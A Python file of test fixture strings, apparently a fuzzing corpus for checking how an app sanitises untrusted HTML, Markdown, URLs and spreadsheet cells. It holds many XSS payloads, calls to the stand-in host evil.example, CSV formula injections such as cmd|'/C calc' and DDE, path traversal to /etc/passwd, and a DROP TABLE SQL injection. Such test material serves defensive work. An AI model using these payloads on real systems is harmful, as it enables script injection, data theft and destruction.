"""Texts that a publisher, a feed or a link could carry to run code, to call home, or to pass for something else.

Whatever runs sets `window.pwned` or opens a dialog; whatever calls home asks evil.example.
"""

SCRIPTS = (
    "<script>window.pwned=1</script>", "<ScRiPt>window.pwned=1</ScRiPt>", "<script src=//evil.example/x.js></script>",
    "</title><script>window.pwned=1</script>", "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>", "<img src='x' onerror='window.pwned=1'>", "<img/src=x/onerror=window.pwned=1>",
    "<img src=//evil.example/i.png>", "<svg onload=window.pwned=1>", "<svg/onload=window.pwned=1//",
    "<svg><script>window.pwned=1</script></svg>", "<svg><a xlink:href=javascript:window.pwned=1><text y=9>x</text></a></svg>",
    "<body onload=window.pwned=1>", "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example/c.css>",
    "<style>@import '//evil.example/c.css';</style>", "<style>body{background:url(//evil.example/b.png)}</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>x</button></form>", "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>", "<video><source onerror=window.pwned=1></video>",
    "<audio src=//evil.example/a.mp3 autoplay>", "<marquee onstart=window.pwned=1>x</marquee>",
    "<math><mtext><script>window.pwned=1</script></mtext></math>", "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>", "<!--<img src='--><img src=x onerror=window.pwned=1>'>",
    "<a href='javascript:window.pwned=1'>click</a>", "<a href=\"data:text/html,<script>window.pwned=1</script>\">x</a>",
    "'\"><img src=x onerror=window.pwned=1>", "\" onmouseover=\"window.pwned=1", "' autofocus onfocus='window.pwned=1",
    "`-window.pwned=1-`", "${window.pwned=1}", "{{constructor.constructor('window.pwned=1')()}}", "#{window.pwned=1}",
    "<%= window.pwned=1 %>", "{% raw %}{{7*7}}{% endraw %}", "%{customdata}%{y}%{x|//evil.example}", "<b onclick=window.pwned=1>x</b>",
    "<img src=x:x onerror\n=window.pwned=1>", "<img src=x onerror=&#119;indow.pwned=1>",
)  # fmt: skip
MARKDOWN = (
    "![x](//evil.example/m.png)", "![x](https://evil.example/m.png)", "[click](javascript:window.pwned=1)",
    "[click](https://evil.example)", "[x]: https://evil.example\n[x]", "<https://evil.example>", "https://evil.example/bare",
    "**bold** _it_ `code` ~~no~~", "# heading", "> quote", "- item", "1. item", "| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```", "$\\href{https://evil.example}{x}$", "$$\\htmlData{x=y}{z}$$", ":material/skull:", ":red[red]",
    ":red-background[x]", ":streamlit:", ":smile:", "---", "[^1]\n\n[^1]: note", "<!-- -->", "&lt;script&gt;window.pwned=1&lt;/script&gt;",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\";=1+1", "\"=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.example\")",
)  # fmt: skip
ODD = (
    "\u202egnp.exe", "\u2066abc\u2069", "\u200bzero\u200bwidth", "\ufeffmark", "\u00adsoft", "a\u0300\u0301\u0302\u0303" * 20,
    "\U000e0041\U000e0042 tags", "👩‍👩‍👧‍👦" * 10, "\x00null", "\x1b[31mred\x1b[0m", "\x07bell", "line\nbreak", "line\u2028break",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "/etc/passwd", "file:///etc/passwd",
    "'; DROP TABLE mentions;--", "' OR '1'='1", "\\", "\"", "'", "%", "%s%n%x", "{0.__class__}", "{x!r:>10}", "NaN", "null",
    "A" * 5000, "ﷺ" * 50, "مرحبا", "Ω≈ç√∫", "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
)  # fmt: skip
STRINGS = (*SCRIPTS, *MARKDOWN, *FORMULAS, *ODD)
URLS = (
    "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", " javascript:window.pwned=1", "java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example",
    "https://user:pass@evil.example/", "https://evil.example\\@example.org/", "http://[::1", "https://", "ftp://evil.example",
    "https://example.org/\"onmouseover=\"window.pwned=1", "https://example.org/<script>window.pwned=1</script>",
)  # fmt: skip
